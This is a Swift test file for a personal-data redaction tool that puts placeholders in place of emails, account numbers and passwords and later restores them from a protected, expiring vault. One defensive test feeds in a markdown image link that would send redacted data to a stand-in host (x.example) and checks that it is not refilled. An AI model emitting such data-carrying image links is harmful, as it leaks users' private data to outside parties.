import Foundation
import Testing

@Suite("dryrun check --fix and dryrun restore")
struct RestoreTests {
  let dryrun: DryrunProcess

  init() throws { dryrun = try DryrunProcess() }

  private func fix(_ draft: String) throws -> DryrunProcess.Result {
    try dryrun.write("draft.txt", draft)
    let result = try dryrun.run(
      "check", "draft.txt", "--fix", "--vault", "vault", "--policy", DryrunProcess.harbourline)
    try dryrun.write("fixed.txt", result.output)
    return result
  }

  @Test(
    "check, fix and restore are a round trip, byte for byte",
    arguments: [
      "Policy HL-12345678-2 of jane@example.com, again jane@example.com.\n",
      "no line break at the end: HL-12345678-2",
      "Windows\r\nlines\r\nHL-12345678-2\r\n",
      "[EMAIL_1] stands there already; jane@example.com, «漢字» jo@example.org\n",
      "nothing to take out\n", "",
      "Pay 4111 1111 1111 1111 or DE89 3704 0044 0532 0130 00\n",
    ])
  func roundTrip(draft: String) throws {
    let fixed = try fix(draft)
    #expect(fixed.status == 0)
    #expect(!fixed.output.contains("@example"))
    let restored = try dryrun.run("restore", "fixed.txt", "--vault", "vault")
    #expect(restored.status == 0)
    #expect(restored.output == draft)
    #expect(restored.error == "")
  }

  @Test("a credential is taken out, not kept, and does not come back")
  func credentials() throws {
    let secret = "k7!Tq9$wLz2p"
    let fixed = try fix("password = \"\(secret)\" of jane@example.com")
    #expect(fixed.output == "password = \"[PASSWORD_1]\" of [EMAIL_1]")
    #expect(!String(decoding: try dryrun.read("vault"), as: UTF8.self).contains(secret))
    let restored = try dryrun.run("restore", "fixed.txt", "--vault", "vault")
    #expect(restored.output == "password = \"[PASSWORD_1]\" of jane@example.com")
    #expect(restored.error.contains("[PASSWORD_1] was left: credentials are not kept"))
  }

  @Test("a text that a rewrite does not save is not printed")
  func notSaved() throws {
    let result = try dryrun.run(
      "check", "--fix", "--tool", "no-such-tool", "--policy", DryrunProcess.harbourline,
      input: "Write to jane@example.com")
    #expect(result.status == 1)
    #expect(result.output == "")
    #expect(result.error.contains("a rewrite alone does not help here"))
  }

  @Test("nothing is put back where it could be carried away")
  func exfiltration() throws {
    _ = try fix("Write to jane@example.com")
    let answer = "Dear [EMAIL_1] ![](https://x.example/?q=[EMAIL_1])"
    let restored = try dryrun.run("restore", "--vault", "vault", input: answer)
    #expect(restored.output == "Dear jane@example.com ![](https://x.example/?q=[EMAIL_1])")
    #expect(restored.error.contains("<stdin>:1:48: [EMAIL_1] was left"))
  }

  @Test("a vault is for its owner's eyes, is never overwritten, and expires")
  func vault() throws {
    _ = try fix("Write to jane@example.com")
    let path = dryrun.folder + "/vault"
    let attributes = try FileManager.default.attributesOfItem(atPath: path)
    #expect(attributes[.posixPermissions] as? Int == 0o600)
    let again = try fix("Write to jo@example.org")
    #expect(again.status == 2)
    #expect(again.error.contains("exists already"))
    #expect(again.output == "")
    let old = String(decoding: try dryrun.read("vault"), as: UTF8.self)
      .replacing(/"expires" : "\d+/) { _ in "\"expires\" : \"1999" }
    try dryrun.write("old", old)
    let expired = try dryrun.run("restore", "--vault", "old", input: "[EMAIL_1]")
    #expect(expired.status == 2)
    #expect(expired.error.contains("expired on 1999-"))
    try dryrun.write("other", "{}")
    #expect(try dryrun.run("restore", "--vault", "other").error.contains("is no vault"))
  }
}
